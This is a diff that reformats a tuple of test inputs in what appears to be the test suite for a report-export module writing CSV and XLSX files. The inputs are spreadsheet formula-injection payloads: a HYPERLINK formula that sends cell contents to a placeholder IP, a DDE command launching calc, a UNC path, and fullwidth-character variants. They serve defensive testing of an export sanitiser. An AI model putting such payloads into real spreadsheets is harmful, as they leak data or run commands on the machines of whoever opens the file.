@@ -17,9 +17,9 @@ from cockpit.reports.export import Value, harmless, write_csv, write_xlsx
 PARIS = ZoneInfo("Europe/Paris")
 AT = datetime(2026, 11, 5, 7, 30, tzinfo=UTC)
 EVIL = (
-    '=HYPERLINK("http://192.0.2.66/x?d="&A1;"Ana")', "+33612345678", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1",
-    "\r=1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201", "https://192.0.2.66/", "mailto:a@b.fr", "{=1+1}",
-    "internal:Sheet2!A1", "\\\\192.0.2.66\\x", "0012", "1e5", "TRUE", "#REF!",
+    '=HYPERLINK("http://192.0.2.66/x?d="&A1;"Ana")', "+33612345678", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1", "\r=1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201", "https://192.0.2.66/", "mailto:a@b.fr",
+    "{=1+1}", "internal:Sheet2!A1", "\\\\192.0.2.66\\x", "0012", "1e5", "TRUE", "#REF!",
 )  # fmt: skip
 STARTS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
 
